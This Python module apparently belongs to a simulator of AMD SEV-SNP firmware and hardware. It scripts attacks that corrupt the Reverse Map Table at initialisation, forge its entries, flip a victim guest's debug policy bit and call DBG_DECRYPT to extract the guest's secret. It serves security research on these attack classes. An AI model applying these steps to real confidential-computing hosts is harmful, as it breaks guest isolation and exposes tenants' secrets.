"""An RMP that does not cover itself (rows 36 and 37): whoever can store to it forges entries, and with them the rest.

The table's own pages stay the hypervisor's, because what the firmware wrote of them at SNP_INIT is lost:
dirty lines of a core are written back over it (RMPocalypse), or it went to where no memory is (Fabricked).
Afterwards a page of anybody is the hypervisor's for as long as it takes to store to it.
"""

from __future__ import annotations

from node.operations import FabricRoute, Fault, HostRead, HostWrite, PspAnswer, PspCommand, RmpUpdate
from node.rmp_entry import ENTRY_BYTES
from node.rmp_layout import RmpLayout
from psp import command_buffers as buffers
from psp.commands import SnpCommand
from psp.guest_context import POLICY_OFFSET
from psp.system_bus import PAGE_BYTES, RmpEntry
from workloads.attacks.target import LET_IT_RUN, WRITE_BACK, Attack, Ground, Target

_DEBUG_BYTE = POLICY_OFFSET + 7
"""Near 0x1FF: another byte of ciphertext here is another policy."""
_TRIES = 24
"""Each turns debugging on with even chances."""
_OF_NOBODY = bytes(ENTRY_BYTES)

def store_before_init(ground: Ground) -> Attack:
    """Row 36: leave dirty lines over the entries of the table's own pages; after SNP_INIT a WBINVD is due anyway."""
    for spa, length in _of_its_own_pages(ground.rmp):
        yield (HostWrite(spa, bytes(length)),)


def route_to_nowhere(ground: Ground) -> Attack:
    """Row 37: while the firmware initialises the table, its addresses lead to no memory."""
    # The entries only: without the segment table the firmware would not find them.
    pages = [(one.spa, one.end - one.spa) for one in ground.rmp.arrays]
    yield tuple(FabricRoute(spa, length, to_memory=False) for spa, length in pages)
    yield LET_IT_RUN
    yield tuple(FabricRoute(spa, length, to_memory=True) for spa, length in pages)


def turn_debugging_on(target: Target) -> Attack:
    """Rows 36, 37: change the policy in the victim's Context page, and have the firmware decrypt the secret."""
    context, out = target.victim.gctx, target.spare[3]
    entry, policy = target.ground.rmp.entry_spa(context // PAGE_BYTES), context + _DEBUG_BYTE
    decrypt = buffers.SnpDebug(context, target.victim.secret.spa, out).pack()
    yield LET_IT_RUN
    yield WRITE_BACK
    yield (RmpUpdate(out, PAGE_BYTES, RmpEntry(assigned=True, immutable=True)),)
    kept, found = yield (HostRead(entry, ENTRY_BYTES), HostRead(policy, 1))
    if not isinstance(kept, bytes) or not isinstance(found, bytes):
        return
    for change in range(1, _TRIES + 1):
        (refused,) = yield (HostWrite(entry, _OF_NOBODY),)
        if isinstance(refused, Fault):
            return
        yield WRITE_BACK
        yield (HostWrite(policy, bytes([found[0] ^ change])),)
        yield WRITE_BACK
        yield (HostWrite(entry, kept),)
        yield WRITE_BACK
        (answer,) = yield (PspCommand(SnpCommand.DBG_DECRYPT, target.command_page, decrypt),)
        if isinstance(answer, PspAnswer) and answer.status == 0:
            break
    yield (HostRead(out, PAGE_BYTES),)


def _of_its_own_pages(rmp: RmpLayout) -> list[tuple[int, int]]:
    """Where the entries of its own pages lie."""
    return [
        (at, (stop - first) * ENTRY_BYTES)
        for spa, length in rmp.ranges()
        for first, stop, at in rmp.stretches(spa // PAGE_BYTES, -(-(spa + length) // PAGE_BYTES))
    ]
